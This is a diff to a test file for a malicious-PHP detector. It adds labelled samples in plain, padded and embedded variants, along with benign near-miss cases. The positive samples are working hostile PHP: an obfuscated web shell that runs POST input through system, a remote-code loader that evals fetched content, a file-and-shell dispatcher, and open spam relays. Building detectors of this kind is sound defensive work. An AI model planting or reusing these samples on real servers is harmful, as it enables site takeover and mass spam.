@@ -274,6 +274,111 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # blind up04 embedded
     (
+        "SPAMGEAR_OBFUSC_CharArraySinkName",
+        plain(
+            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
+        ),
+        True,
+    ),  # blind b14 plain
+    (
+        "SPAMGEAR_OBFUSC_CharArraySinkName",
+        padded(
+            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
+        ),
+        True,
+    ),  # blind b14 padded
+    (
+        "SPAMGEAR_OBFUSC_CharArraySinkName",
+        embedded(
+            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
+        ),
+        True,
+    ),  # blind b14 embedded
+    (
+        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
+        plain(
+            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
+        ),
+        True,
+    ),  # blind b06 plain
+    (
+        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
+        padded(
+            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
+        ),
+        True,
+    ),  # blind b06 padded
+    (
+        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
+        embedded(
+            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
+        ),
+        True,
+    ),  # blind b06 embedded
+    (
+        "SPAMGEAR_INPUT_SinkDispatchTable",
+        plain(
+            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
+        ),
+        True,
+    ),  # blind b15 plain
+    (
+        "SPAMGEAR_INPUT_SinkDispatchTable",
+        padded(
+            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
+        ),
+        True,
+    ),  # blind b15 padded
+    (
+        "SPAMGEAR_INPUT_SinkDispatchTable",
+        embedded(
+            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
+        ),
+        True,
+    ),  # blind b15 embedded
+    (
+        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
+        plain(
+            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
+        ),
+        True,
+    ),  # blind b25 plain
+    (
+        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
+        padded(
+            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
+        ),
+        True,
+    ),  # blind b25 padded
+    (
+        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
+        embedded(
+            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
+        ),
+        True,
+    ),  # blind b25 embedded
+    (
+        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
+        plain(
+            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
+        ),
+        True,
+    ),  # blind b09 plain
+    (
+        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
+        padded(
+            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
+        ),
+        True,
+    ),  # blind b09 padded
+    (
+        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
+        embedded(
+            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
+        ),
+        True,
+    ),  # blind b09 embedded
+    (
         "SPAMGEAR_INPUT_ShellOfInput",
         plain(
             "<?php\n$n = (int) $_GET['n'];\nexec('convert -resize ' . escapeshellarg((string) $n) . ' in.png out.png');\n"
@@ -472,6 +577,76 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_DROPPER_InputUrlToInputPath",
         embedded(
             "<?php\n$cfg = file_get_contents($_POST['cfg_file']);\n$out = fopen(LOG_DIR . '/import.log', 'a');\nfwrite($out, strlen($cfg) . \" bytes\\n\");\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_OBFUSC_CharArraySinkName",
+        plain(
+            "<?php\n$vowels = implode('', array('a', 'e', 'i', 'o', 'u'));\n$abc = join(',', ['s', 'y', 's']);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_OBFUSC_CharArraySinkName",
+        embedded(
+            "<?php\n$vowels = implode('', array('a', 'e', 'i', 'o', 'u'));\n$abc = join(',', ['s', 'y', 's']);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
+        plain(
+            "<?php\n$feed = file_get_contents($_GET['feed']);\n$xml = simplexml_load_string($feed);\nforeach ($xml->item as $it) { echo htmlspecialchars((string) $it->title); }\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
+        embedded(
+            "<?php\n$feed = file_get_contents($_GET['feed']);\n$xml = simplexml_load_string($feed);\nforeach ($xml->item as $it) { echo htmlspecialchars((string) $it->title); }\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_SinkDispatchTable",
+        plain(
+            "<?php\n$fmt = ['json' => 'json_encode', 'ser' => 'serialize', 'exp' => 'var_export'];\n$f = $_GET['f'] ?? 'json';\necho call_user_func($fmt[$f], $data);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_SinkDispatchTable",
+        embedded(
+            "<?php\n$fmt = ['json' => 'json_encode', 'ser' => 'serialize', 'exp' => 'var_export'];\n$f = $_GET['f'] ?? 'json';\necho call_user_func($fmt[$f], $data);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
+        plain(
+            "<?php\n$s = fsockopen('localhost', 25);\n$to = filter_var($_POST['to'], FILTER_VALIDATE_EMAIL);\nfwrite($s, \"MAIL FROM:<noreply@example.com>\\r\\nRCPT TO:<admin@example.com>\\r\\n\");\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
+        embedded(
+            "<?php\n$s = fsockopen('localhost', 25);\n$to = filter_var($_POST['to'], FILTER_VALIDATE_EMAIL);\nfwrite($s, \"MAIL FROM:<noreply@example.com>\\r\\nRCPT TO:<admin@example.com>\\r\\n\");\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
+        plain(
+            "<?php\n$n = (int) $_GET['n'];\nfor ($i = 0; $i < $n; $i++) { echo row($i); }\nmail('admin@example.com', 'report', 'rows: ' . $n);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
+        embedded(
+            "<?php\n$n = (int) $_GET['n'];\nfor ($i = 0; $i < $n; $i++) { echo row($i); }\nmail('admin@example.com', 'report', 'rows: ' . $n);\n"
         ),
         False,
     ),  # near miss
